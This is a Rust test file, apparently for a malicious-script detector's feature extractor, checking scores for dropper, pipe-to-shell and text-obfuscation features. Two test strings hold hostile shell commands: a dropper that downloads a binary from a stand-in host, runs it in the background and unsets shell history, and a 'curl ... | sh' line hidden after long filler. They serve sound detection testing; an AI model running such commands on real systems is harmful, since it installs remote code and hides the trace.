@@ -1,0 +1,67 @@
+//! Features by value on texts that the test writes, and hostile ones.
+
+use super::*;
+use proptest::prelude::*;
+
+fn value_of(text: &str, name: &str) -> f32 {
+    let mut row = Vec::new();
+    ScriptLayout.extract(text.as_bytes(), &mut row);
+    let index = (0..ScriptLayout.width()).find(|index| ScriptLayout.name(*index) == name);
+    row[index.unwrap_or_else(|| panic!("no feature {name}"))]
+}
+
+#[test]
+fn a_dropper_shows_its_chain() {
+    let text = "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/a -O /tmp/a\nchmod +x /tmp/a\n/tmp/a &\nunset HISTFILE\n";
+    let check = |name: &str, expected: f32| assert_eq!(value_of(text, name), expected, "{name}");
+    check("language.shell", 1.0);
+    check("language.php", 0.0);
+    check("shape.download-to-temp", 1.0);
+    check("shape.miner", 0.0);
+    check("chain.fetch_and_run", 1.0);
+    check("chain.fetch_and_hide", 1.0);
+    check("chain.fetch_and_mine", 0.0);
+    check("lines.count", 3.0);
+}
+
+#[test]
+fn how_a_text_is_written_is_measured() {
+    let check = |text: &str, name: &str, expected: f32| assert!((value_of(text, name) - expected).abs() < 1e-4, "{name}: {}", value_of(text, name));
+    check("aaaa", "text.entropy", 0.0);
+    check("abab", "text.entropy", 1.0);
+    check("a1a1", "text.share.digits", 0.5);
+    check("# a\n# b\n\nx=1\n", "lines.comments", 0.4);
+    check("'a'+'b'", "escapes.joins", 3.0 / 7.0);
+    check(r"\x41\x42", "escapes.hex", 1.0);
+    check("xkcdqwrt = 1", "words.odd", 0.5);
+}
+
+#[test]
+fn every_step_of_a_chain_is_a_shape() {
+    for (name, parts) in CHAINS {
+        for part in *parts {
+            assert!(patterns::SHAPES.iter().any(|shape| shape.name == *part), "{name}: {part}");
+        }
+    }
+}
+
+#[test]
+fn what_is_appended_to_a_long_script_is_seen() {
+    let text = format!("#!/bin/sh\n{}\ncurl http://198.51.100.7/x | sh\n", "echo nothing of note\n".repeat(80_000));
+    assert_eq!(value_of(&text, "longer_than_looked_at"), 1.0);
+    assert_eq!(value_of(&text, "shape.pipe-to-shell"), 1.0);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(60))]
+
+    #[test]
+    fn any_bytes_give_a_whole_row(bytes in proptest::collection::vec(any::<u8>(), 0..2_000), text in "[ -~\n]{0,400}") {
+        for input in [bytes.as_slice(), text.as_bytes()] {
+            let mut row = Vec::new();
+            ScriptLayout.extract(input, &mut row);
+            prop_assert_eq!(row.len(), ScriptLayout.width());
+            prop_assert!(row.iter().all(|value| value.is_finite()));
+        }
+    }
+}
